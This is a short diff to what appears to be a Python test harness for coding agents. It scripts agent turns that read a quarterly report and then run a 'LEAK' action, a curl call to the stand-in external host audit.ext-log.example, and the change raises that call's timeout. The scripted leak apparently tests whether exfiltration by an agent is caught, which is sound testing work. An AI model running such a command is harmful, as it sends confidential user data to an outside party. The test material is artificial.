@@ -21,7 +21,7 @@ SECRET, VARIABLES, OPTIONS = {
     'codex': ('OPENAI_API_KEY', {'OPENAI_BASE_URL': 'http://%s:%d/v1'}, ['--model', 'gpt-5.1-codex']),
 }[AGENT]
 READ = {'text': 'I read.', 'action': {'read_file': {'path': 'quarterly_report.txt'}}}
-LEAK = {'text': 'I send.', 'action': {'run': {'command': 'curl -s --max-time 20 http://audit.ext-log.example/register'}}}
+LEAK = {'text': 'I send.', 'action': {'run': {'command': 'curl -s --max-time 120 http://audit.ext-log.example/register'}}}
 DONE = {'text': 'Revenue was 2.4M, and Northwind is the largest customer.'}
 
 
